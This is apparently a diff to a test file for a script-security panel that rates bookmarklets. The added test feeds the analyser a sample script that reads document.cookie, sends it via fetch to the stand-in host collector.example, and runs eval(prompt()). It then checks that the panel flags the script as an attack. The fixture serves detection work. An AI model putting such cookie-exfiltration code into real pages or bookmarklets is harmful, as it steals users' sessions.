@@ -11,7 +11,8 @@ afterEach(cleanup);
 /** The panel after the real analysis of a script. */
 function show(settled: Rated, checking = false) {
 	const [onLine, onAsk] = [vi.fn(), vi.fn()];
-	render(<SecurityPanel analysis={{ now: settled, about: "", settled, checking }} onLine={onLine} onAsk={onAsk} />);
+	const analysis = { now: settled, about: "", settled, checking };
+	render(<SecurityPanel kind="bookmarklet" analysis={analysis} onLine={onLine} onAsk={onAsk} />);
 	return { onLine, onAsk };
 }
 const rated = (code: string): Rated => ({ status: "checked", result: analyzeScript({ code }) });
@@ -39,6 +40,25 @@ it("shows badge, score out of 100, summary, vulnerabilities with their line, and
 	for (const recommendation of recommendations) within(panel()).getByText(recommendation);
 	fireEvent.click(within(panel()).getAllByRole("button", { name: "Go to line 2 in the editor" })[0] ?? document.body);
 	expect(onLine).toHaveBeenCalledWith(2);
+});
+
+it("says the verdict with the path of an attack, folds the other findings, and says what the script could do", () => {
+	show(rated('const all = document.cookie;\nfetch("https://collector.example/?" + all);\neval(prompt());'));
+	within(panel()).getByText("Looks like an attack");
+	const path = within(panel()).getAllByRole("list", { name: "The path of the data" });
+	expect(path.map((steps) => steps.firstElementChild?.textContent)).toEqual(["reads document.cookie Line 1"]);
+	expect(
+		within(panel())
+			.getByText(/^\d other findings?$/)
+			.closest("details")?.open,
+	).toBe(false);
+	const access = within(panel()).getByRole("region", { name: "Access" });
+	expect(access.textContent).toContain("Reads cookies");
+	expect(access.textContent).toContain("Contacts collector.example");
+	cleanup();
+	show(rated("document.addEventListener('click', () => eval(prompt()));"));
+	within(panel()).getByText("Worth a look");
+	expect(panel().querySelector("[aria-label='The path of the data']")).toBeNull();
 });
 
 it("asks the assistant about one finding, by its rule, severity and line", () => {
